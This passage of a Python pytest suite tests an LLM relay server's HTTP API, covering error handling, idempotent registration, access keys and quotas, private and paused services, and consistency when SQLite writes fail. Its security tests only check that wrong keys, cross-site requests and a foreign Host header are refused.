    seen, go_on, reported, hang_ups = threading.Event(), threading.Event(), [], (
        neuroengine_server.HangUps())
    with Gone() as connection:
        mine, peer = socket.socketpair()
        connection.fileno = mine.fileno
        connection.enter_context(mine)
        with hang_ups.watching(connection):
            peer.close()
            first = in_thread(lambda: hang_ups.look() or True)
            assert seen.wait(SOON)
            second = in_thread(lambda: hang_ups.look() or list(reported))
            go_on.set()
            assert first() and second() == [connection]


def test_an_internal_error_in_an_answer_is_a_500(relay, hand, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "text_of", lambda items: 1 / 0)
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    hand.reply(hand.next_job(), ["a"], done=True)
    assert answer()[0] == 500 and answer()[1]["error"] == "internal_error"


@pytest.mark.parametrize("size", [1, neuroengine_server.DIRECT_BYTES])
def test_a_fault_before_a_stream_began_is_a_500(relay, hand, monkeypatch, size):
    monkeypatch.setattr(neuroengine_server.NativeStream, "items", lambda *_: 1 / 0)
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x", "stream": True})
    hand.reply(hand.next_job(), ["x" * size])
    assert answer()[0] == 500 and answer()[1]["error"] == "internal_error"


def test_a_long_prompt_to_the_wrong_service_hears_that(relay, hand):
    ask(relay, "/api/services/" + hand.name, {"private": True}, "PATCH",
        Authorization="Bearer " + hand.key)
    body = {"message": "x" * 2 * neuroengine_server.MAX_SMALL_BODY_BYTES}
    assert ask(relay, "/Unknown", body)[1]["error"] == "service_unknown"
    assert ask(relay, "/" + hand.name, body)[1]["error"] == "invalid_key"


def test_a_fault_amid_a_stream_cuts_it_and_writes_nothing_more(relay, hand, monkeypatch):
    items = neuroengine_server.NativeStream.items
    monkeypatch.setattr(neuroengine_server.NativeStream, "items", lambda self, found, at:
                        items(self, found, at) if at == 0 else 1 / 0)
    with contextlib.closing(sent(relay, "/" + hand.name, {
            "message": "hi", "stream": True})) as sock:
        job, data = hand.next_job(), b""
        hand.reply(job, ["a"])
        while b'["a"]' not in data:
            data += sock.recv(65536)
        hand.reply(job, ["b" * neuroengine_server.DIRECT_BYTES], at=1)   # for its own thread
        data += b"".join(iter(lambda: sock.recv(65536), b""))
    assert data.count(b"HTTP/1.1") == 1 and not data.endswith(b"0\r\n\r\n")


def test_a_large_answer_that_comes_at_once_arrives_whole(relay, hand):
    for size in (1000, 300000, 900000):
        answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
        hand.reply(hand.next_job(), ["x" * size], done=True)
        assert len(answer()[1]["reply"]) == size


def test_an_idempotency_key_makes_a_prompt_repeatable(relay, hand):
    body = {"message": "x"}
    answer = in_thread(ask, relay, "/" + hand.name, body, Idempotency_Key="k1")
    hand.reply(hand.next_job(), ["one"], done=True)
    assert answer()[1]["reply"] == "one"
    assert ask(relay, "/" + hand.name, body, Idempotency_Key="k1")[1]["reply"] == "one"
    status, refused, _ = ask(relay, "/" + hand.name, {"message": "y"}, Idempotency_Key="k1")
    assert status == 422 and refused["error"] == "key_reused"


def test_registration_is_repeatable_with_an_idempotency_key(relay):
    body = {"name": name_of()}
    first = ask(relay, "/api/services", body, Idempotency_Key="r1")
    assert first[0] == 201
    assert ask(relay, "/api/services", body, Idempotency_Key="r1")[1] == first[1]
    assert ask(relay, "/api/services", body)[1]["error"] == "name_taken"
    other = ask(relay, "/api/services", dict(body, comment="other"), Idempotency_Key="r1")
    assert (other[0], other[1]["error"]) == (422, "key_reused")
    relay.broker.find(body["name"]).created -= neuroengine_server.REPEAT_SECONDS
    assert ask(relay, "/api/services", body, Idempotency_Key="r1")[1]["error"] == "key_reused"


def test_a_registration_that_failed_is_repeated_with_its_idempotency_key(relay, monkeypatch):
    def full(*_):
        raise sqlite3.OperationalError("database or disk is full")

    name, add = name_of(), relay.registry._store.add
    monkeypatch.setattr(relay.registry._store, "add", full)
    assert ask(relay, "/api/services", {"name": name}, Idempotency_Key="k" + name)[0] == 503
    monkeypatch.setattr(relay.registry._store, "add", add)
    assert ask(relay, "/api/services", {"name": name}, Idempotency_Key="k" + name)[0] == 201


def test_a_repeated_registration_is_not_answered_before_the_first_is_on_the_disk(
        relay, monkeypatch):
    name, add, on_disk, answers = name_of(), relay.registry._store.add, threading.Event(), []

    def register():
        answers.append((ask(relay, "/api/services", {"name": name}, Idempotency_Key="k" + name),
                        on_disk.is_set()))

    def slow(*args):
        again = threading.Thread(target=register)
        again.start()
        again.join(0.3)                    # it does not end: it waits for this
        add(*args)
        on_disk.set()
    monkeypatch.setattr(relay.registry._store, "add", slow)
    register()
    until(lambda: len(answers) == 2)
    assert [(answer[0], saved) for answer, saved in answers] == [(201, True)] * 2


@pytest.mark.parametrize("name", ["v1", "API", "models", "robots.txt", "", "-x", "a b",
                                  "a/b", "é", "x" * 65, None, 5])
def test_reserved_and_ill_formed_names_cannot_be_registered(relay, name):
    status, answer, _ = ask(relay, "/api/services", {"name": name})
    assert status == 400 and answer["error"] == "invalid_name"


def test_names_are_unique_without_regard_to_case(relay, hand):
    assert ask(relay, "/api/services", {"name": hand.name.upper()})[0] == 409


def test_a_service_is_managed_with_its_key_and_no_other(relay, hand):
    path = "/api/services/" + hand.name
    for key in ("", "wrong", "é".encode().decode("latin-1")):
        status, answer, headers = ask(relay, path, Authorization="Bearer " + key)
        assert status == 401 and answer["error"] == "invalid_key"
        assert headers["WWW-Authenticate"] == "Bearer"
    mine = {"Authorization": "Bearer " + hand.key}
    assert ask(relay, path, {"comment": "new"}, "PATCH", **mine)[1]["comment"] == "new"
    assert ask(relay, path, {"comment": "two\nlines"}, "PATCH", **mine)[0] == 400
    new = ask(relay, path, {"new_key": True}, "PATCH", **mine)[1]["key"]
    assert ask(relay, path, **mine)[0] == 401
    assert ask(relay, path, method="DELETE", Authorization="Bearer " + new)[0] == 200
    assert ask(relay, "/" + hand.name, {"message": "x"})[0] == 404


def manage(relay, hand, method, path="", body=None):
    return ask(relay, "/api/services/" + hand.name + path, body, method,
               Authorization="Bearer " + hand.key)[:2]


def test_a_private_service_is_for_its_guests_and_its_operator(relay, hand):
    assert manage(relay, hand, "PATCH", body={"private": True})[1]["private"] is True
    guest = manage(relay, hand, "POST", "/keys", {"label": "Ann"})[1]
    for body in ({"message": "x"}, {"key": "k", "at": 0}, {"command": "cancel", "key": "k"}):
        for key, words in (("", "ask its operator for an access key"), ("wrong", "revoked")):
            status, answer, _ = ask(relay, "/" + hand.name, body,
                                    Authorization="Bearer " + key)
            assert status == 401 and answer["error"] == "invalid_key"
            assert words in answer["reply"]
    assert chat(relay, hand.name)[0] == 401
    for key in (guest["key"], hand.key):
        answer = in_thread(Neuroengine(hand.name, relay.url, key=key).request, "hi")
        hand.reply(hand.next_job(), ["x"], done=True)
        assert answer() == "x"
    other = Hand(relay)
    stranger = manage(relay, other, "POST", "/keys", {})[1]["key"]
    other.logout()
    assert ask(relay, "/" + hand.name, {"message": "x"},
               Authorization="Bearer " + stranger)[1]["error"] == "forbidden"
    listed, = manage(relay, hand, "GET", "/keys")[1]["keys"]
    assert listed["label"] == "Ann" and listed["requests_today"] == 1
    assert listed["tokens_today"] == 1 and "key" not in listed and "digest" not in listed
    assert manage(relay, hand, "DELETE", "/keys/" + guest["id"])[0] == 200
    revoked = ask(relay, "/" + hand.name, {"message": "x"},
                  Authorization="Bearer " + guest["key"])[1]
    assert revoked["error"] == "invalid_key" and "was revoked" in revoked["reply"]
    assert manage(relay, hand, "DELETE", "/keys/" + guest["id"])[0] == 404


def test_the_limits_of_an_access_key_are_changed_or_refused(relay, hand):
    key_id = manage(relay, hand, "POST", "/keys", {
        "label": "Ann", "requests_per_day": 0, "tokens_per_day": 9})[1]["id"]
    status, key = manage(relay, hand, "PATCH", "/keys/" + key_id, {
        "requests_per_day": 5, "tokens_per_day": None, "label": "Bob"})[:2]
    assert status == 200 and (key["requests_per_day"], key["tokens_per_day"], key["label"]) == (
        5, None, "Bob")
    for body, status in (({"requests_per_day": -1}, 400), ({"requests_a_day": 1}, 400), ([], 400)):
        assert manage(relay, hand, "PATCH", "/keys/" + key_id, body)[0] == status
    assert manage(relay, hand, "PATCH", "/keys/nosuch", {"label": "x"})[0] == 404
    del key["errorcode"]
    assert manage(relay, hand, "GET", "/keys")[1]["keys"] == [key]


def test_changed_limits_are_in_force_at_once_and_after_a_restart(tmp_path):
    broker, path = Broker(Limits()), str(tmp_path / "data")
    registry = neuroengine_server.Registry(Store(path), broker)
    registry.register(Service("s", "d"))
    access = neuroengine_server.AccessKey("id", "digest", "Ann", 1, 5, None, None, None, None,
                                          0, 0, 0, None)
    registry.add_key(broker.find("s"), access)
    other = neuroengine_server.Registry(Store(path), Broker(Limits()))
    registry.change_key(broker.find("s"), "id", {"requests_per_day": 9, "expires": 2.5})
    assert (access.requests_per_day, access.expires) == (9, 2.5)
    other.reload()                         # another process on the file, or a restart
    seen = other._broker.find("s").keys["digest"]
    assert (seen.requests_per_day, seen.expires) == (9, 2.5)
    registry.close(), other.close()


def test_a_renamed_service_keeps_all_and_its_old_name_is_reserved(relay):
    hand = Hand(relay)
    old, new = hand.name, name_of()
    key_id = manage(relay, hand, "POST", "/keys", {"label": "Ann"})[1]["id"]
    waiting = in_thread(Neuroengine(old, relay.url).request, "hi")
    hand.next_job()
    assert manage(relay, hand, "PATCH", body={"name": new, "comment": "c"})[0] == 200
    with pytest.raises(AssertionError, match="service_unknown"):
        hand.poll()
    hand.name, hand.running = new, []
    hand.session = hand.call("login", workers=1)["session"]
    hand.reply(hand.next_job(), ["x"], done=True)      # which went back to the queue
    assert waiting() == "x"
    shown = manage(relay, hand, "GET")[1]
    assert (shown["name"], shown["comment"], shown["numreq"]) == (new, "c", 1)
    assert [key["id"] for key in manage(relay, hand, "GET", "/keys")[1]["keys"]] == [key_id]
    assert ask(relay, "/api/services", {"name": old})[1]["error"] == "name_taken"
    assert ask(relay, "/api/services", {"name": old}, Authorization="Bearer " + hand.key)[0] == 201


@pytest.mark.parametrize("at_once", [True, False])
def test_an_old_name_is_reserved_for_the_newest_key_of_its_service(relay, at_once):
    hand = Hand(relay)
    old, old_key, new = hand.name, hand.key, name_of()
    if not at_once:
        assert manage(relay, hand, "PATCH", body={"name": new})[0] == 200
        hand.name = new
    hand.key = manage(relay, hand, "PATCH", body={"name": new, "new_key": True})[1]["key"]
    hand.name = new
    assert ask(relay, "/api/services", {"name": old},
               Authorization="Bearer " + old_key)[1]["error"] == "name_taken"
    assert manage(relay, hand, "PATCH", body={"name": old})[0] == 200


def test_a_service_is_only_renamed_to_a_free_and_possible_name(relay, hand):
    other = Hand(relay)
    for name, error in ((other.name.upper(), "name_taken"), ("x/y", "invalid_name"),
                        ("api", "invalid_name"), (5, "invalid_request")):
        assert manage(relay, hand, "PATCH", body={"name": name})[1]["error"] == error
    assert manage(relay, hand, "PATCH", body={"name": hand.name.swapcase()})[0] == 200
    assert ask(relay, "/api/services", {"name": hand.name})[1]["error"] == "name_taken"


def test_an_access_key_keeps_to_its_limits(relay, hand):
    guest = manage(relay, hand, "POST", "/keys", {
        "requests_per_day": 2, "concurrency": 1, "max_new_len": 7})[1]
    mine = {"Authorization": "Bearer " + guest["key"]}
    body = {"message": "x", "max_new_len": 100}
    answer = in_thread(ask, relay, "/" + hand.name, body, **mine)
    job = hand.next_job()
    assert job["request"]["max_new_len"] == 7
    status, refused, _ = ask(relay, "/" + hand.name, {"message": "y"}, **mine)
    assert status == 429 and refused["error"] == "rate_limited"
    hand.reply(job, ["x"], done=True)
    answer()
    answer = in_thread(ask, relay, "/v1/chat/completions", {
        "model": hand.name, "messages": [{"role": "user", "content": "x"}]}, **mine)
    job = hand.next_job()
    assert job["request"]["max_tokens"] == 7
    hand.reply(job, ["x"], done=True)
    answer()
    status, refused, headers = ask(relay, "/" + hand.name, {"message": "z"}, **mine)
    assert status == 429 and refused["error"] == "quota_exceeded"
    assert "midnight UTC" in refused["reply"] and headers["Retry-After"]
    old = manage(relay, hand, "POST", "/keys", {"expires": 1})[1]
    assert ask(relay, "/" + hand.name, {"message": "x"},
               Authorization="Bearer " + old["key"])[0] == 401


def test_a_revoked_key_is_out_even_if_the_disk_is_full(relay, hand, monkeypatch):
    manage(relay, hand, "PATCH", body={"private": True})
    guest = manage(relay, hand, "POST", "/keys", {})[1]
    with monkeypatch.context() as patch:
        def full(key):
            raise sqlite3.OperationalError("database or disk is full")
        patch.setattr(relay.registry._store, "remove_key", full)
        for _ in range(2):                 # in force, and said not to be on the disk
            status, answer = manage(relay, hand, "DELETE", "/keys/" + guest["id"])
            assert status == 503 and "is revoked" in answer["reply"]
        assert ask(relay, "/" + hand.name, {"message": "x"},
                   Authorization="Bearer " + guest["key"])[0] == 401
    relay.registry.save()                                 # once it can be written
    assert not [s for s in relay.registry._store.load() if s.name == hand.name][0].keys
    assert ask(relay, "/" + hand.name, {"message": "x"},
               Authorization="Bearer " + guest["key"])[0] == 401


def test_a_deleted_services_key_does_not_come_back_with_its_name(relay, hand):
    sock = socket.create_connection(relay.server_address[:2], SOON)
    body = b'{"new_key":true}'
    sock.sendall(b"PATCH /api/services/%s HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n"
                 b"Expect: 100-continue\r\nAuthorization: Bearer %s\r\n\r\n" % (
                     hand.name.encode(), len(body), hand.key.encode()))
    assert b" 100 " in sock.recv(100)            # the key was right, the body is awaited
    old, name = hand.key, hand.name
    assert manage(relay, hand, "DELETE")[0] == 200
    new = ask(relay, "/api/services", {"name": name})[1]["key"]
    sock.sendall(body)
    assert b" 401 " in sock.recv(100)
    sock.close()
    relay.registry.save()
    row = next(s for s in relay.registry._store.load() if s.name == name)
    assert row.key_digest == neuroengine_server.digest(new) != neuroengine_server.digest(old)


@pytest.mark.parametrize("running", ["", "ab", {}, 5, [["x"]], [["x", "y"]]])
def test_a_poll_names_its_jobs_in_a_list_of_pairs(relay, hand, running):
    status, answer, _ = ask(relay, "/provider/%s/poll" % hand.name, {
        "session": hand.session, "running": running}, Authorization="Bearer " + hand.key)
    assert (status, answer["error"]) == (400, "invalid_request")
    assert answer["reply"].startswith("running must be a list of [job, attempt]")


class LockAfter:
    """A lock that calls act() just before it is taken for the first time."""

    def __init__(self, lock, act):
        self.lock, self.acts = lock, [act]

    def __enter__(self):
        if self.acts:
            self.acts.pop()()
        self.lock.acquire()

    def __exit__(self, *_):
        self.lock.release()


@pytest.mark.parametrize("method, path, body", [
    ("PATCH", "", {"comment": "old"}), ("DELETE", "", None), ("POST", "/keys", {}),
    ("PATCH", "/keys/%s", {"label": "old"})])
def test_a_key_that_was_changed_an_instant_before_changes_nothing(
        relay, hand, monkeypatch, method, path, body):
    service, guest = relay.broker.find(hand.name), manage(relay, hand, "POST", "/keys", {})[1]
    monkeypatch.setattr(relay.registry, "changing", LockAfter(
        relay.registry.changing, lambda: setattr(service, "key_digest", "another")))
    status, answer = manage(relay, hand, method, path.replace("%s", guest["id"]), body)
    assert (status, answer["error"]) == (401, "invalid_key")
    assert relay.broker.find(hand.name) is service and service.comment == ""
    assert [key.label for key in service.keys.values()] == [""]
    service.key_digest = digest(hand.key)


def test_a_change_that_cannot_be_written_is_not_in_force(relay, hand, monkeypatch):

    def full(*args, **columns):
        raise sqlite3.OperationalError("database or disk is full")
    monkeypatch.setattr(relay.registry._store, "change", full)
    status, answer = manage(relay, hand, "PATCH", body={"new_key": True})
    assert status == 503 and "cannot write" in answer["reply"]
    assert manage(relay, hand, "GET")[0] == 200


def test_a_new_name_is_in_force_with_what_is_changed_beside_it_or_not_at_all(relay, hand):
    change, store = {"name": name_of(), "private": True, "new_key": True}, relay.registry._store
    with store._transaction():
        store._db.execute("CREATE TEMP TRIGGER full BEFORE UPDATE OF private ON services "
                          "BEGIN SELECT RAISE(ABORT, 'disk full'); END")
    try:
        assert manage(relay, hand, "PATCH", body=change)[0] == 503
        assert manage(relay, hand, "GET")[1]["name"] == hand.name
    finally:
        with store._transaction():
            store._db.execute("DROP TRIGGER full")
    status, answer = manage(relay, hand, "PATCH", body=change)
    hand.name, hand.key = change["name"], answer["key"]
    assert status == 200 and manage(relay, hand, "GET")[1]["private"] is True
    assert {service.name: service.private for service in store.load()}[hand.name]


class FailingDB:
    """A connection whose n-th statement fails, alone or with all that follow."""

    def __init__(self, db):
        self._db, self.left, self.stays, self.failed = db, -1, False, False

    def arm(self, n, stays):
        self.left, self.stays, self.failed = n, stays, False

    def heal(self):
        if self.failed:
            self.left = -1

    def _count(self):
        if self.left == 0:
            self.failed = True
            self.left -= not self.stays
            raise sqlite3.OperationalError("disk I/O error")
        self.left -= self.left > 0

    def execute(self, *args):
        self._count()
        return self._db.execute(*args)

    def executemany(self, *args):
        self._count()
        return self._db.executemany(*args)

    def __getattr__(self, name):
        return getattr(self._db, name)


@pytest.mark.parametrize("stays", [False, True])
def test_no_failing_statement_leaves_a_change_half_done(tmp_path, stays):
    path = str(tmp_path / "data.sqlite3")
    relay = Relay("127.0.0.1", 0, store=Store(path))     # no thread but this writes
    db = relay.registry._store._db = FailingDB(relay.registry._store._db)
    for target in (functools.partial(relay.serve_forever, 0.05), relay.lobby.run):
        threading.Thread(target=target, daemon=True).start()

    def shown(service, *counted):
        return [getattr(service, c) for c in (
            "key_digest", *neuroengine_server.SERVICE_SETTINGS, *counted)]

    def agree(*counted):
        with contextlib.closing(Store(path, existing=True)) as store:
            there = {service.name: service for service in store.load()}
            if not stays:
                store._db.execute("BEGIN IMMEDIATE")     # no lock was left behind
        here = {service.name: service for service in relay.broker.services()}
        assert set(here) == set(there)
        for name, service in here.items():
            assert shown(service, *counted) == shown(there[name], *counted)
            assert set(there[name].keys) - {k.digest for k in relay.registry._revoked} == set(
                service.keys)

    def step(method, path="", body=None, key=""):
        status, answer, _ = ask(relay, "/api/services" + path, body, method,
                                Authorization="Bearer " + key)
        db.heal()
        agree()
        relay.reload()
        agree()
        assert status in (200, 201, 503) and ask(relay, "/healthz")[0] == 200
        return status, answer

    def insist(*args):
        status, answer = step(*args)
        if status == 503:                  # as if it had never been asked
            status, answer = step(*args)
        assert status in (200, 201)
        return answer

    for n in range(100):
        db.arm(n, stays)
        name = "s%d" % n
        key = insist("POST", "", {"name": name, "comment": "first"})["key"]
        service = relay.broker.find(name)
        guest = insist("POST", "/%s/keys" % name, {"label": "Ann"}, key)
        relay.broker.submit(Job(service, b"{}", wait=True))
        relay.registry.save()
        step("DELETE", "/%s/keys/%s" % (name, guest["id"]), None, key)
        assert not service.keys            # in force, whatever the disk
        key = insist("PATCH", "/" + name, {"comment": "second", "new_key": True}, key)["key"]
        assert service.comment == "second"
        relay.registry.save()
        relay.registry.save()
        agree("numreq")
        assert not relay.registry._revoked
        insist("DELETE", "/" + name, None, key)
        if not db.failed:
            break
    assert 15 < n < 99 and not relay.broker.services()
    relay.shutdown()
    relay.server_close()
    relay.registry._store.close()


@pytest.fixture
def stored(tmp_path):
    """A relay with a data file, a provider at it, and the file as another process has it."""
    path = str(tmp_path / "data.sqlite3")
    with running_relay(store=Store(path)) as relay:
        yield relay, Hand(relay), Store(path, existing=True)


def test_changes_by_another_process_come_into_force(stored):
    relay, hand, other = stored
    relay.broker.add(Service("Eliza", ""))       # not in the file
    gone = manage(relay, hand, "POST", "/keys", {})[1]
    stays = manage(relay, hand, "POST", "/keys", {})[1]
    service, = other.load()
    here, session = relay.broker.find(hand.name), hand.session
    here.numreq = 5
    other.change(service, comment="new", private=True, paused=True, anonymous_per_day=3)
    other.remove_key(next(k for k in service.keys.values() if k.id == gone["id"]))
    other.add_key(service, neuroengine_server.AccessKey("id", "hash", "Bob", 1.0, *9 * [None]))
    other.add(Service("Other", digest("its key"), created=2.0))
    relay.reload()
    model = manage(relay, hand, "GET")[1]
    assert (model["comment"], model["private"], model["paused"], model["numreq"],
            model["anonymous_per_day"], model["connected"]) == ("new", True, True, 5, 3, True)
    assert {key.id for key in here.keys.values()} == {stays["id"], "id"}
    assert ask(relay, "/api/services/other", Authorization="Bearer its key")[0] == 200
    other.change(service, key_digest=digest("new"))
    relay.reload()
    assert manage(relay, hand, "GET")[0] == 401 and session not in relay.broker._sessions
    other.remove(service)
    other.add(Service(hand.name.upper(), digest("another's"), created=3.0))
    relay.reload()
    assert relay.broker.find(hand.name).key_digest == digest("another's")
    assert {s.name for s in relay.broker.services()} == {
        "Eliza", "Other", hand.name.upper()}


def test_a_key_revoked_while_the_disk_is_full_does_not_come_back(stored, monkeypatch):
    relay, hand, other = stored
    guest = manage(relay, hand, "POST", "/keys", {})[1]

    def full(key):
        raise sqlite3.OperationalError("database or disk is full")
    monkeypatch.setattr(relay.registry._store, "remove_key", full)
    assert manage(relay, hand, "DELETE", "/keys/" + guest["id"])[0] == 503
    other.change(other.load()[0], comment="new")
    relay.reload()
    service = relay.broker.find(hand.name)
    assert service.comment == "new" and not service.keys
    assert other.load()[0].keys
    monkeypatch.undo()
    until(lambda: not other.load()[0].keys)      # once there is room, without a further word


def test_a_reload_reads_only_changed_files_and_never_raises(stored, monkeypatch, capfd):
    relay, hand, other = stored
    loads, load = [], relay.registry._store.load
    monkeypatch.setattr(relay.registry._store, "load", lambda: loads.append(1) or load())
    manage(relay, hand, "PATCH", body={"comment": "by the relay itself"})
    relay.reload()
    assert not loads
    monkeypatch.setattr(relay.registry._store, "load", lambda: 1 / 0)
    other.change(other.load()[0], comment="new")
    relay.reload()
    assert "cannot_reload" in capfd.readouterr().err
    monkeypatch.undo()
    relay.reload()
    assert relay.broker.find(hand.name).comment == "new"


def test_a_relay_starts_with_more_services_than_it_would_register(tmp_path):
    store = Store(str(tmp_path / "data.sqlite3"))
    for n in range(3):
        store.add(Service("s%d" % n, ""))
    with running_relay(store=store, limits=Limits(max_services=2)) as relay:
        assert len(ask(relay, "/api/models")[1]) == 3
        assert ask(relay, "/api/services", {"name": "more"})[1]["error"] == "relay_busy"


def test_where_registration_is_closed_it_says_so(tmp_path):
    with running_relay(registration="closed") as relay:
        status, answer, _ = ask(relay, "/api/services", {"name": "s"})
        assert status == 403 and answer["error"] == "forbidden" and "closed" in answer["reply"]


def test_an_invitation_is_used_up_by_services_and_by_nothing_else(monkeypatch):
    with running_relay(registration="invited") as relay:
        def register(name, code):
            status, answer, _ = ask(relay, "/api/services", {
                "name": name, "invitation": code})
            return answer.get("error", status)
        relay.registry._store.invite(digest("code"), 2)
        for code in ("", "wrong", None, 5, ["code"]):
            assert register("a", code) == "invitation_needed"
        assert ask(relay, "/api/services", {"name": "a"})[1]["errorcode"] == 35
        assert not relay.broker.services() and not relay.registry._store.load()
        assert register("a", "code") == 201
        assert register("a", "code") == "name_taken"
        assert register("-", "code") == "invalid_name"
        assert register("b", "code") == 201
        assert register("c", "code") == "invitation_needed"
        monkeypatch.setattr(neuroengine_server, "is_loopback", lambda address: False)
        tries = [register("d", "guess") for _ in range(21)]
        assert tries == ["invitation_needed"] * 20 + ["rate_limited"]


def test_the_quota_of_anonymous_callers_is_set_and_reset(relay, hand):
    for value, status in ((5, 200), (1, 200), (0, 400), (1.5, 400), (-1, 400), (True, 400),
                          ("5", 400), (10**9 + 1, 400)):
        assert manage(relay, hand, "PATCH", body={"anonymous_per_day": value})[0] == status
    assert manage(relay, hand, "GET")[1]["anonymous_per_day"] == 1
    assert manage(relay, hand, "PATCH", body={"comment": "x"})[1]["anonymous_per_day"] == 1
    manage(relay, hand, "PATCH", body={"anonymous_per_day": None})
    assert "anonymous_per_day" not in manage(relay, hand, "GET")[1]


def test_a_paused_service_refuses_all_but_its_operator(relay, hand):
    manage(relay, hand, "PATCH", body={"paused": True})
    status, answer, headers = ask(relay, "/" + hand.name, {"message": "x"})
    assert status == 503 and answer["error"] == "service_paused" and headers["Retry-After"]
    answer = in_thread(Neuroengine(hand.name, relay.url, key=hand.key).request, "hi")
    hand.reply(hand.next_job(), ["x"], done=True)
    assert answer() == "x"
    for bad in ({"paused": "yes"}, {"private": 1}):
        assert manage(relay, hand, "PATCH", body=bad)[0] == 400


def test_another_sites_page_cannot_manage(relay):
    status, answer, _ = ask(relay, "/api/services", {"name": name_of()},
                            Sec_Fetch_Site="cross-site")
    assert status == 403 and answer["error"] == "forbidden"


def test_a_provider_needs_its_key_and_its_session(relay, hand):
    for action in ("login", "poll", "reply", "logout"):
        status, _, _ = ask(relay, "/provider/%s/%s" % (hand.name, action),
                           {"session": hand.session}, Authorization="Bearer x")
        assert status == 401
    status, answer, _ = ask(relay, "/provider/%s/poll" % hand.name, {"session": "x"},
                            Authorization="Bearer " + hand.key)
    assert status == 404 and answer["error"] == "session_unknown"


@pytest.mark.parametrize("entry", [5, {}, {"job": 1}, {"job": "x", "attempt": "1"},
                                   {"job": "x", "at": -1}])
def test_a_malformed_provider_reply_is_refused(relay, hand, entry):
    status, answer, _ = ask(
        relay, "/provider/%s/reply" % hand.name,
        {"session": hand.session, "replies": [entry]}, Authorization="Bearer " + hand.key)
    assert status == 400


def test_a_provider_with_too_many_workers_is_refused(relay, hand):
    for more, status in ((0, 200), (1, 400)):
        assert ask(relay, "/provider/%s/login" % hand.name, {
            "workers": relay.limits.max_workers + more},
            Authorization="Bearer " + hand.key)[0] == status


def test_connected_turns_false_within_a_second_of_a_providers_end(relay, hand):
    sock = sent(relay, "/provider/%s/poll" % hand.name, {"session": hand.session},
                Authorization="Bearer " + hand.key)
    service = relay.broker.find(hand.name)
    until(lambda: service.idle)
    model = next(m for m in ask(relay, "/api/models")[1] if m["name"] == hand.name)
    assert model["connected"] and model["queuelen"] == 0
    sock.close()
    began = time.monotonic()
    until(lambda: not service.sessions)
    assert time.monotonic() - began < patient(1)


def test_a_killed_providers_job_goes_to_another_within_a_second(relay):
    hand = Hand(relay)
    answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
    job = hand.next_job()
    with contextlib.closing(sent(
            relay, "/provider/%s/poll" % hand.name,
            {"session": hand.session, "running": [[job["job"], 1]]},
            Authorization="Bearer " + hand.key)):
        until(lambda: relay.broker._sessions[hand.session].parked)
    began = time.monotonic()
    hand.session, hand.running = hand.call("login")["session"], []
    again = hand.next_job()
    assert time.monotonic() - began < patient(1)
    assert (again["job"], again["attempt"]) == (job["job"], 2)
    hand.reply(again, ["second"], done=True)
    assert answer()[1]["reply"] == "second"


def test_getmodels_is_answered_on_every_path(relay, hand):
    lists = [ask(relay, path, {"command": "getmodels"})[1]
             for path in ("/", "/nosuch", "/" + hand.name)] + [ask(relay, "/api/models")[1]]
    for models in lists:
        model = next(m for m in models if m["name"] == hand.name)
        assert {"numreq", "connected", "comment", "operator", "name",
                "queuelen"} <= set(model)


def test_a_visitor_amid_the_building_of_the_directory_gets_the_old_one_as_a_whole(
        relay, hand, monkeypatch):
    ask(relay, "/api/models")
    before, amid, compress = relay.directory._sent, [], neuroengine_server.gzipped
    monkeypatch.setattr(neuroengine_server, "gzipped", lambda body, level: (
        amid.append(relay.directory._sent), compress(body, level))[1])
    manage(relay, hand, "PATCH", body={"comment": "new"})
    until(lambda: ask(relay, "/api/models")[0] and relay.directory._sent is not before)
    assert amid[0] is before and not set(before) & set(relay.directory._sent)


def test_an_error_reply_arrives_although_the_request_is_too_large(relay):
    body = b"x" * (8 << 20)
    for _ in range(20):
        status, answer, _ = ask(relay, "/", body)
        assert status == 413 and answer["error"] == "request_too_large"


def test_a_directory_that_cannot_be_sent_is_told_as_that_on_every_path(relay, monkeypatch):
    def busy(exchange):
        raise RelayError("relay_busy", "Not now.")
    monkeypatch.setattr(relay.directory, "send", busy)
    for path in ("/", "/nobody"):
        assert ask(relay, path, {"command": "getmodels"})[1]["error"] == "relay_busy"


def test_a_request_that_fails_does_not_wait_for_the_garbage_collector(relay):
    def left():
        return [each for each in gc.get_objects() if type(each) is
                neuroengine_server.HttpExchange and each.head and "nobody" in each.head.target]
    gc.disable()
    try:
        for path in ("/nobody", "/provider/nobody/login", "/api/services/nobody/keys"):
            assert ask(relay, path, {"message": "Hi"})[0] == 404
        until(lambda: not left())
    finally:
        gc.enable()


def test_one_empty_line_before_a_request_is_forgiven_however_it_comes(relay):
    for parts in ((b"\r\n",), (b"\r", b"\n")):
        with socket.create_connection(relay.server_address, SOON) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for part in parts + (b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n",):
                sock.sendall(part)
                time.sleep(0.05)           # so that it comes in a packet of its own
            assert sock.recv(100).startswith(b"HTTP/1.1 200")


def test_requests_on_one_connection_are_answered_in_order(relay):
    one = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
    two = b"GET /nosuch/x HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    answers = raw(relay, one + two)
    assert answers.index(b"200 OK") < answers.index(b"404 Not Found")


def test_each_request_of_a_connection_is_judged_by_its_own_head(relay, hand):
    def head(line, host="localhost", key=hand.key):
        return ("%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n"
                % (line.replace("NAME", hand.name), host, key)).encode()

    asked = ((200, head("GET /api/services/NAME")),
             (401, head("GET /api/services/NAME", key="x")),
             (403, head("GET /api/services/NAME", host="evil.example")),
             (405, head("DELETE /healthz")), (404, head("GET /nosuch/x")),
             (204, head("OPTIONS /healthz")), (204, head("OPTIONS /v1/models")),
             (200, head("GET /healthz")), (404, head("GET /v1/nosuch")))
    asked = [each for each in asked for _ in range(2)] + list(asked)
    answers = raw(relay, b"".join(each for _, each in asked))
    assert [int(s) for s in re.findall(rb"HTTP/1.1 (\d+)", answers)] == [s for s, _ in asked]


def test_an_unread_body_is_not_the_next_request(relay):
    answer = raw(relay, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4"
